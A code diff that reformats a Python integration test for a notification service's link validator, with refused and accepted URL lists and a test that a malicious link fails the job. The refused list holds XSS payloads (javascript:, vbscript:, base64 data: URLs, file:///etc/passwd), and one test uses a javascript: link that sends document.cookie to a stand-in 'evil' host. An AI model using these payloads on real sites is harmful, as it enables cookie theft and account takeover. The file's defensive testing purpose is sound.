@@ -12,13 +12,31 @@ from tests.integration.jobtypes.conftest import settings, smtp, start_job, wait_
 from tests.support.receivers import SmtpSink
 
 REFUSED = [
-    "javascript:alert(document.cookie)", "JavaScript:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
-    "java\nscript:alert(1)", "\x00javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
-    "vbscript:msgbox(1)", "file:///etc/passwd", "//evil.example.com/x", "/relative/path", "https://", "mailto:",
-    "https://example.com/a b", "x" * 10, "https://example.com/" + "a" * 2100, 42, {"href": "https://x.y"},
+    "javascript:alert(document.cookie)",
+    "JavaScript:alert(1)",
+    " javascript:alert(1)",
+    "java\tscript:alert(1)",
+    "java\nscript:alert(1)",
+    "\x00javascript:alert(1)",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "vbscript:msgbox(1)",
+    "file:///etc/passwd",
+    "//evil.example.com/x",
+    "/relative/path",
+    "https://",
+    "mailto:",
+    "https://example.com/a b",
+    "x" * 10,
+    "https://example.com/" + "a" * 2100,
+    42,
+    {"href": "https://x.y"},
 ]
-ACCEPTED = ["https://example.com/reports/1?x=1&y=2#top", "http://example.com", "HTTPS://EXAMPLE.COM/",
-            "mailto:ops@example.com?subject=Report"]
+ACCEPTED = [
+    "https://example.com/reports/1?x=1&y=2#top",
+    "http://example.com",
+    "HTTPS://EXAMPLE.COM/",
+    "mailto:ops@example.com?subject=Report",
+]
 
 
 @pytest.mark.parametrize("link", REFUSED)
@@ -35,10 +53,17 @@ def test_safe_links_are_rendered_escaped(link: str) -> None:
 
 
 async def test_a_javascript_link_fails_the_job_and_sends_nothing(client, worker, smtp: SmtpSink) -> None:
-    job_id = await start_job(client, "notification", {
-        "channel": "email", "recipients": ["user_viewer"], "template": "message",
-        "data": {"subject": "Your report", "body": "Click", "link": "javascript:fetch('//evil/'+document.cookie)"},
-    }, user="user_member")
+    job_id = await start_job(
+        client,
+        "notification",
+        {
+            "channel": "email",
+            "recipients": ["user_viewer"],
+            "template": "message",
+            "data": {"subject": "Your report", "body": "Click", "link": "javascript:fetch('//evil/'+document.cookie)"},
+        },
+        user="user_member",
+    )
     job = await wait_final(client, job_id, user="user_member")
     assert job["status"] == "failed" and job["retryCount"] == 0, job
     assert job["errorMessage"] == "Invalid notification payload: a link must be an http, https or mailto URL"
